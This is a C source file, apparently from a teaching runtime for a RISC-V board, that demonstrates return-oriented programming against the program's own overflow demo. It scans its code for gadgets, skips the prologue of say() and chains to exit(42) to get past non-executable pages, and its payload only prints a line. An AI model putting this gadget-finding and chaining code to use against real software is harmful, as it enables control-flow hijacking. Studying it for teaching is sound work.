/*
 * Return-oriented programming. The same hole as in `overflow`, but the message
 * brings no code: it brings return addresses, and what the instructions right
 * before a return take from the stack.
 *
 *      stack               code that was there already
 *      ──────────────      ───────────────────────────────────────────────
 *      gadget ───────────▶ ld ra · ld a0 · addi sp · ret     a0 = line
 *        a0, ra ─────────▶ say(), behind its first two instructions
 *          ra ───────────▶ ld ra · ld a0 · addi sp · ret     a0 = 42
 *            a0, ra ─────▶ exit()
 *
 * No page of data is executed, so no bit on pages stops it.
 */
#include "runtime/board.h"

#define USAGE "rop [text of a message, by default an attack]"

extern const uint16_t _start[];

enum { RET = 0x8082, A0 = 10, RA = 1, FARTHEST = 16384, TEXT_PLACE = 416 };

/* Of the compressed instructions (RISC-V unprivileged manual, "C" extension) those that a frame is built and left by. */
static bool is_load(uint16_t i) { return (i & 0xe003) == 0x6002 && ((i >> 7) & 31); }     /* c.ldsp */
static bool is_ra_store(uint16_t i) { return (i & 0xe07f) == 0xe006; }                    /* c.sdsp ra */
static int loaded(uint16_t i) { return (i >> 7) & 31; }
static size_t load_offset(uint16_t i) { return (i >> 7 & 0x20) | (i >> 2 & 0x18) | (i << 4 & 0x1c0); }
static size_t store_offset(uint16_t i) { return (i >> 7 & 0x38) | (i >> 1 & 0x1c0); }

/* What is added to sp; 0 for any other instruction. */
static long added_to_sp(uint16_t i) {
    if ((i & 0xef83) == 0x6101) { /* c.addi16sp */
        long n = (i >> 2 & 0x10) | (i << 3 & 0x20) | (i << 1 & 0x40) | (i << 4 & 0x180);
        return i & 0x1000 ? n - 512 : n;
    }
    if ((i & 0xef83) != 0x0101) return 0; /* c.addi sp */
    long n = i >> 2 & 31;
    return i & 0x1000 ? n - 32 : n;
}

/* Instructions that take `ra`, and a0 if `a0` is not NULL, off the stack: where from, and how much of it they leave. */
struct gadget { uintptr_t address; size_t ra, a0, bytes; };

/* Looks at the operations right before each return: loads from the stack, then `addi sp`, then `ret`. */
static struct gadget find_pop_a0(void) {
    for (const uint16_t *at = _start; at < _start + FARTHEST; at++) {
        if (at[0] != RET || added_to_sp(at[-1]) <= 0) continue;
        struct gadget found = {0, 0, 0, (size_t)added_to_sp(at[-1])};
        bool has_ra = false, has_a0 = false;
        for (const uint16_t *load = at - 2; is_load(*load); load--) {
            if (loaded(*load) == RA) has_ra = true, found.ra = load_offset(*load);
            if (loaded(*load) == A0) has_a0 = true, found.a0 = load_offset(*load);
            found.address = (uintptr_t)load;
        }
        if (has_ra && has_a0) return found;
    }
    fail("rop: no such instructions in this program");
}

/* A function from behind the instructions that save its return address, so that it returns by what is on the stack. */
static struct gadget behind_prologue(void (*function)(const char *)) {
    const uint16_t *at = (const uint16_t *)(uintptr_t)function;
    size_t bytes = 0;
    for (const uint16_t *end = at + 8; at < end; at++) {
        if (added_to_sp(*at) < 0) bytes = (size_t)-added_to_sp(*at);
        if (is_ra_store(*at)) return (struct gadget){(uintptr_t)(at + 1), store_offset(*at), 0, bytes};
    }
    fail("rop: the function begins otherwise");
}

/* The chain: each link says where the one before it returns to. */
struct chain { struct message *message; size_t link, stack; };

static void go_to(struct chain *c, struct gadget g) {
    put_word(c->message, c->link, g.address);
    c->link = c->stack + g.ra;
    c->stack += g.bytes;
}

static void go_with(struct chain *c, struct gadget g, uint64_t a0) {
    put_word(c->message, c->stack + g.a0, a0);
    go_to(c, g);
}

int main(int argc, char **argv, char **envp) {
    (void)envp;
    begin(argc, argv, USAGE);

    static struct message message;
    static const char line[] = "This line was printed by returning.";
    put_message(&message, 2, "A message that is too long.");
    /* Behind the chain: what lies before it, the functions that are returned to use for their frames. */
    put_bytes(&message, TEXT_PLACE, line, sizeof line);
    struct gadget pop = find_pop_a0();
    struct chain chain = {&message, place_of_return(), place_of_return() + 8};
    go_with(&chain, pop, seen.buffer + TEXT_PLACE);
    go_to(&chain, behind_prologue(say));
    go_with(&chain, pop, 42);
    put_word(&message, chain.link, (uintptr_t)exit);
    take_message(message.bytes, message.length);
    return 0; /* never */
}
